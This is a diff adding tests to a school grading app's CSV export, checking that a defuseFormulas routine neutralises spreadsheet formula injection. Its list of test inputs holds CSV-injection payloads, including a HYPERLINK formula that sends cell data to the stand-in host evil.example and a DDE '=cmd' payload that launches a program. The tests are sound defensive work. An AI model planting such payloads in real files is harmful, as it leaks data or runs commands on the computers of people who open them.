@@ -3,7 +3,7 @@ import { join } from 'node:path'
 import { parse } from 'valibot'
 import { describe, expect, it } from 'vitest'
 import { gradingConfigSchema } from '@/lib/config'
-import { summarize, toCsv } from './class-list'
+import { defuseFormulas, summarize, toCsv } from './class-list'
 import { calculate } from './grading'
 
 const standard = parse(gradingConfigSchema, 
@@ -103,5 +103,40 @@ describe('a pasted heading and the list\'s title (issue 13)', () => {
     if (s === null) throw new Error('no summary')
     const rows = toCsv(s, { title: '7b Mathematik, 2. Klassenarbeit', date: '23.11.2026' }).slice(1).split('\r\n')
     expect(rows.slice(0, 4)).toEqual(['Titel;7b Mathematik, 2. Klassenarbeit', 'Datum;23.11.2026', '', 'Zeile;Name;Punkte;Prozent;Note;Hinweis'])
+  })
+})
+
+describe('CSV injection', () => {
+  const attacks = [
+    'Max,=1+1,; 20',
+    '=HYPERLINK("https://evil.example/?"&A1;"Klick");5',
+    "=cmd|' /C calc'!A0;5",
+    'Eva,+1+1;5',
+    'Ben, -2+3;5',
+    'Ida\t@SUMME(A1);5',
+    'Tom,\t=1+1;5',
+    'Lea; =1+1;5',
+  ]
+  const dangerous = /^[=+\-@\t\r]/
+
+  it.each(attacks)('no cell of %j starts a formula, whatever the separator', (line) => {
+    const s = summarize(standard, '40', line)
+    if (s === null) throw new Error('no summary')
+    const rows = toCsv(s).slice(1).split(/\r\n|\r|\n/)
+    for (const separator of [';', ',', '\t']) {
+      for (const row of rows) {
+        for (const cell of row.split(separator)) {
+          // a program that splits naively may also keep the quotes and drop leading spaces
+          expect(cell.replace(/^[" ]+/, ''), `${separator === '\t' ? 'tab' : separator} in ${row}`).not.toMatch(dangerous)
+        }
+      }
+    }
+  })
+
+  it('keeps ordinary text as it is', () => {
+    expect(defuseFormulas('Anna Lange')).toBe('Anna Lange')
+    expect(defuseFormulas('31,5')).toBe('31,5')
+    expect(defuseFormulas('Max,=1+1,')).toBe("Max,'=1+1,")
+    expect(defuseFormulas('a, @b')).toBe("a, '@b")
   })
 })
